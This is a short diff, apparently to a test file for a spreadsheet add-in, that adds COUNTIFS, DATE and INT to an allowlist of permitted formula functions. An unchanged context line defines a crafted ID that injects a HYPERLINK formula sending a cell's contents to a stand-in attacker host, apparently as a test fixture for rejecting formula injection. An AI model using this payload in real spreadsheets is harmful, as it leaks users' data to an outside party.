@@ -20,7 +20,7 @@ const NOW = new Date("2026-12-01T00:00:00Z");
 const CRAFTED_ID = 'A1,HYPERLINK("https://attacker.example/?"&Sheet1!A1)';
 
 /** The functions the add-in's own formulas call, and nothing else. */
-const OUR_FUNCTIONS = /^(COMPUTE\.[A-Z]+|IF|NA|AND|ABS|SQRT|LN|EXP|MIN|INDEX|MATCH|IFERROR|ROWS|SUMIFS)$/;
+const OUR_FUNCTIONS = /^(COMPUTE\.[A-Z]+|IF|NA|AND|ABS|SQRT|LN|EXP|MIN|INDEX|MATCH|IFERROR|ROWS|SUMIFS|COUNTIFS|DATE|INT)$/;
 
 function nodes(node: FormulaNode): FormulaNode[] {
   switch (node.kind) {
